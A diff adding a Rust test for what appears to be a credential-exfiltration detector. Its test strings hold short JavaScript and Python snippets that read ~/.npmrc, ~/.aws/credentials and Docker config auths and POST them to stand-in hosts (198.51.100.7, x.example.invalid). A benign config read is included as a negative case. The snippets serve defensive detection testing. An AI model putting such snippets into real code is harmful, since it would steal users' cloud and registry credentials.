@@ -197,3 +197,14 @@ fn data_written_to_a_request_is_not_its_destination() {
     let text = "const fs = require('fs');\nconst http = require('http');\nconst body = fs.readFileSync('/home/u/.npmrc', 'utf8');\nconst req = http.request({ host: '198.51.100.7', method: 'POST' });\nreq.end(body);\n";
     assert_eq!(js(text).len(), 1, "{:?}", js(text));
 }
+
+#[test]
+fn python_handles_on_credential_files_are_their_contents() {
+    let upload = py("import requests, os\nrequests.post('https://x.example.invalid/u', files={'f': open(os.path.expanduser('~/.aws/credentials'), 'rb')})\n");
+    assert_eq!(upload.len(), 1, "{upload:?}");
+    let loaded = py("import json, requests\nwith open('/home/u/.docker/config.json') as f:\n    auths = json.load(f)['auths']\nrequests.post('https://x.example.invalid/d', json=auths)\n");
+    assert_eq!(loaded.len(), 1, "{loaded:?}");
+    let config =
+        py("import json\nwith open('settings.json') as f:\n    cfg = json.load(f)\nprint(cfg)\n");
+    assert!(config.is_empty());
+}
